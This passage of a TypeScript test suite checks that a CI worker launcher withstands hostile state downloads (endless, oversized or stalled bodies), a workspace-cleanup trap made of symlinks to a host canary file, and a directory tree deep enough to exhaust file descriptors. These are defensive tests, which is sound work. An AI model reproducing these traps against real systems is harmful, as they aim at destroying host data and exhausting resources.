    // Small bounds, so each case is over in milliseconds: what is shown is the bound, not its size.
    const cap = 256 * 1024;
    const work = scratchDir("state-work-");
    let sealer: (plain: Readable) => Readable;
    before(() => {
      const certificate = decodeToken(token).certificate as string;
      sealer = (plain) => plain.pipe(sealStream(certificateKey(certificate)));
    });

    /** A launcher of these cases, alone on the gateway, with this logs timeout (the download's stall timer). */
    function launcherWith(logsTimeout: string): void {
      let launcher: RunningAgent;
      before(async () => {
        await eventually(() => !gateway.connected(), 5000, "the earlier launchers gone");
        launcher = await launcherRole().start(
          settings({ executor: "process", workDirectory: work, logsTimeout, maxStateBytes: cap }),
          { log: capturingLogger("launcher").log, env: { PATH: process.env.PATH } },
        );
        await launcher.ready;
        await eventually(gateway.connected);
      });
      after(async () => {
        gateway.stateAnswer = undefined;
        await launcher.drain(Date.now() + 2000);
      });
    }

    /** Files the run's workspace holds (none: no partial state), read before the gateway lets the launcher clean up. */
    const filesLeft = () =>
      readdirSync(work, { recursive: true, withFileTypes: true })
        .filter((entry) => !entry.isDirectory())
        .map((entry) => path.join(entry.parentPath, entry.name));

    async function hostileDownload(answer: (res: http.ServerResponse) => void, reason: RegExp): Promise<void> {
      gateway.stateAnswer = (_req, res) => answer(res);
      gateway.holdAcks = true;
      try {
        const ended = await gateway.run({
          id: id(),
          image: "alpine:3",
          stateFrom: "earlier",
          commands: ["echo must-not-run"],
        });
        assert.equal(ended.status, "failed", JSON.stringify(ended));
        assert.match(ended.reason ?? "", reason);
        assert.deepEqual(ended.lines, [], "the run's commands never ran");
        assert.deepEqual(filesLeft(), [], "no partial state file");
      } finally {
        gateway.holdAcks = false;
        gateway.ackHeld();
        gateway.stateAnswer = undefined;
      }
      await stillWorks();
    }

    describe("past the cap (a long logs timeout: the cap ends them, not a clock)", () => {
      launcherWith("1m");

      it("an endless body (validly sealed: the gateway has the pool's certificate) ends at the cap; nothing stays", async () => {
        let made = 0;
        const endless = new Readable({
          read() {
            made += 65_536;
            this.push(Buffer.alloc(65_536, 0x41));
          },
        });
        await hostileDownload(
          (res) => (res.writeHead(200), sealer(endless).pipe(res)),
          new RegExp(`over AGENTPOOLS_MAX_STATE_BYTES \\(${cap} bytes as sealed\\)`),
        );
        endless.destroy();
        // The launcher stopped reading: the stand-in made only what the sockets' buffers took beyond the cap.
        assert.ok(made < cap + 16 * 1024 * 1024, `${made} bytes made`);
      });

      it("a body over the cap, its length declared, fails the run naming the setting; nothing stays", async () => {
        const plain = Buffer.alloc(cap, 0x42);
        const sealed = Buffer.concat(await sealer(Readable.from([plain])).toArray());
        await hostileDownload(
          (res) => res.writeHead(200, { "content-length": sealed.length }).end(sealed),
          /over AGENTPOOLS_MAX_STATE_BYTES/,
        );
      });

      it("a state within the cap still arrives whole", async () => {
        const plain = "serial=7\n";
        gateway.served.set("small", Buffer.concat(await sealer(Readable.from([Buffer.from(plain)])).toArray()));
        const ended = await gateway.run({
          id: id(),
          image: "alpine:3",
          stateFrom: "small",
          commands: ['cat "$AGENTPOOLS_STATE_FILE"'],
        });
        assert.deepEqual([ended.status, ended.lines], ["succeeded", ["serial=7"]]);
      });
    });

    describe("stalled (a logs timeout of 1s)", () => {
      launcherWith("1s");

      it("a body that stalls, or an answer that never comes, ends at the logs timeout; nothing stays", async () => {
        const sealed = Buffer.concat(await sealer(Readable.from([Buffer.alloc(200_000, 0x43)])).toArray());
        // The first chunk (64 KiB and its tag) opens and lands; then nothing.
        await hostileDownload(
          (res) => (res.writeHead(200), res.write(sealed.subarray(0, 100_000))),
          /state of run earlier stopped coming for 1s \(the logs timeout\)/,
        );
        await hostileDownload(() => undefined, /stopped coming for 1s/);
      });
    });
  });

  describe("a launcher that is not root", function () {
    /** The real bundle as uid 65534 (as on EC2 and in a pod, not root), with `caps` ambient as systemd gives them. */
    const startLauncher = (work: string, caps?: string, openFiles?: number) => {
      const child = spawn(
        "setpriv",
        [
          "--reuid=65534",
          "--regid=65534",
          "--clear-groups",
          ...(caps ? [`--inh-caps=${caps}`, `--ambient-caps=${caps}`] : []),
          "--",
          ...(openFiles ? ["prlimit", `--nofile=${openFiles}:${openFiles}`, "--"] : []),
          process.execPath,
          ...RUNTIME_NODE_FLAGS,
          path.join(packageRoot(), "build/bundles/launcher.js"),
        ],
        {
          env: {
            PATH: process.env.PATH,
            SPACELIFT_TOKEN: token,
            SPACELIFT_POOL_PRIVATE_KEY: keyBase64,
            AGENTPOOLS_WORKER_EXECUTOR: "process",
            AGENTPOOLS_WORK_DIR: work,
          },
          stdio: ["ignore", "pipe", "pipe"],
        },
      );
      let output = "";
      child.stdout.on("data", (chunk) => (output += chunk));
      child.stderr.on("data", (chunk) => (output += chunk));
      const exited = new Promise<number | null>((resolve) => child.once("exit", resolve));
      return { child, output: () => output, exited };
    };
    const workDir = (name: string) => {
      const work = path.join(dir, name);
      mkdirSync(work);
      chownSync(work, 65534, 65534);
      // The scratch root is the test process's own (0700): let the launcher's user through.
      chmodSync(dir, 0o711);
      chmodSync(path.dirname(dir), 0o711);
      return work;
    };

    /**
     * A finished run's workspace as a container's root leaves it (no userns-remap: the host's root), its result not yet
     * acknowledged: a 0700 directory holding a file of mode 0000, a sticky directory holding a file of root's, links to
     * a host directory and a host file the launcher could remove were it to follow them. Returns that host directory.
     */
    async function leftByRoot(work: string): Promise<string> {
      const outside = path.join(dir, `outside-${counter}`);
      mkdirSync(outside, { mode: 0o777 });
      chmodSync(outside, 0o777);
      writeFileSync(path.join(outside, "canary"), "host file\n", { mode: 0o666 });
      gateway.holdAcks = true;
      const ended = await gateway.run({
        id: id(),
        image: "alpine:3",
        commands: [`mkdir -p keep/deep sticky && echo blob > keep/deep/blob && echo x > sticky/f`],
      });
      assert.equal(ended.status, "succeeded", JSON.stringify(ended));
      const [run] = readdirSync(work);
      const workspace = path.join(work, run, "workspace");
      await exec("sh", [
        "-ec",
        `cd ${workspace} && ln -s ${outside} out && ln -s ${outside}/canary outfile && chown -R 0:0 keep sticky` +
          ` && chmod 0000 keep/deep/blob && chmod 0700 keep/deep keep && chmod 1777 sticky && chmod 0600 sticky/f`,
      ]);
      return outside;
    }

    it("survives a run that locks its workspace (chmod 0500), removes it, and runs the next", async function () {
      const work = workDir("nonroot-work");
      const launcher = startLauncher(work);
      try {
        await eventually(
          () => launcher.output().includes("Connected to the server"),
          10_000,
          "the launcher to connect",
        );
        const locked = await gateway.run({
          id: id(),
          image: "alpine:3",
          commands: ["mkdir -p a/b && touch a/b/f && chmod 0500 a/b a"],
        });
        assert.equal(locked.status, "succeeded");
        await stillWorks();
        await eventually(() => readdirSync(work).length === 0, 5000, "the locked workspace removed");
        assert.equal(launcher.child.exitCode, null, `the launcher is still running: ${launcher.output().slice(-500)}`);
      } catch (error) {
        throw new Error(`${(error as Error).message}\nlauncher output: ${launcher.output().slice(-1500)}`);
      } finally {
        launcher.child.kill("SIGKILL");
      }
    });

    it("removes a run's tree deeper than its open-file limit (Node's rmSync holds a descriptor per level), and runs the next", async function () {
      const work = workDir("deep-work");
      const launcher = startLauncher(work, undefined, 512);
      try {
        await eventually(
          () => launcher.output().includes("Connected to the server"),
          10_000,
          "the launcher to connect",
        );
        const deep = await gateway.run({
          id: id(),
          image: "alpine:3",
          commands: ["i=0; while [ $i -lt 700 ]; do mkdir a && cd a; i=$((i + 1)); done; echo x > f"],
        });
        assert.equal(deep.status, "succeeded", JSON.stringify(deep));
        await eventually(() => readdirSync(work).length === 0, 10_000, "the deep workspace removed");
        await stillWorks();
        assert.equal(launcher.child.exitCode, null, "the launcher still serves");
        assert.doesNotMatch(launcher.output(), /cannot be removed/);
      } catch (error) {
        throw new Error(`${(error as Error).message}\nlauncher output: ${launcher.output().slice(-1500)}`);
      } finally {
        launcher.child.kill("SIGKILL");
      }
    });

    it("with CAP_DAC_OVERRIDE and CAP_FOWNER (EC2's unit, the pod's): removes what a root container left, following no link", async function () {
      const work = workDir("capable-work");
      const launcher = startLauncher(work, "+dac_override,+fowner");
      try {
        await eventually(
          () => launcher.output().includes("Connected to the server"),
          10_000,
          "the launcher to connect",
        );
        const outside = await leftByRoot(work);
        gateway.holdAcks = false;
        gateway.ackHeld();
        await eventually(() => readdirSync(work).length === 0, 5000, "the run's directory removed");
        assert.equal(readFileSync(path.join(outside, "canary"), "utf8"), "host file\n", "the linked host file stays");
        assert.deepEqual(readdirSync(outside), ["canary"]);
        await stillWorks();
        assert.equal(launcher.child.exitCode, null);
        assert.doesNotMatch(launcher.output(), /cannot be removed/);
      } catch (error) {
        throw new Error(`${(error as Error).message}\nlauncher output: ${launcher.output().slice(-1500)}`);
      } finally {
        gateway.holdAcks = false;
        launcher.child.kill("SIGKILL");
      }
    });

    it("without them: takes no more runs on that disk, ends, and will not start again on it", async function () {
      const work = workDir("spoiled-work");
      const launcher = startLauncher(work);
      const marker = path.join(dir, "ran-on-a-spoiled-disk");
      try {
        await eventually(
          () => launcher.output().includes("Connected to the server"),
          10_000,
          "the launcher to connect",
        );
        await leftByRoot(work);
        const from = gateway.messages.length;
        gateway.holdAcks = false;
        gateway.ackHeld();
        await eventually(
          () => gateway.messages.slice(from).some((m) => m.type === "draining"),
          5000,
          "the launcher to say it drains",
        );
        // A run offered now never runs: refused, or not taken at all once the launcher has closed.
        gateway.sendRaw(
          JSON.stringify({
            type: "run",
            run: { id: id(), image: "alpine:3", commands: [`touch ${marker}`] },
            lease: { fence: 1000 + counter, termMs: 60_000 },
          }),
        );
        assert.equal(await launcher.exited, 1, "the launcher ends with a failure (a unit restarts, and gives up)");
        assert.match(launcher.output(), /a run's files cannot be removed: no more runs on this disk/);
        assert.equal(existsSync(marker), false, "no run after it ran");
        assert.equal(readdirSync(work).length, 1, "the run's directory stays: the launcher's uid cannot remove it");
        // A restart on the same disk (systemd's Restart=, a container restarted in its pod) does not serve on it.
        const again = startLauncher(work);
        assert.equal(await again.exited, 1);
        assert.match(again.output(), new RegExp(`${work}: a run's files cannot be removed`));
        assert.doesNotMatch(again.output(), /Connected to the server/);
      } catch (error) {
        throw new Error(`${(error as Error).message}\nlauncher output: ${launcher.output().slice(-1500)}`);
      } finally {
        gateway.holdAcks = false;
        launcher.child.kill("SIGKILL");
      }
    });
  });
});
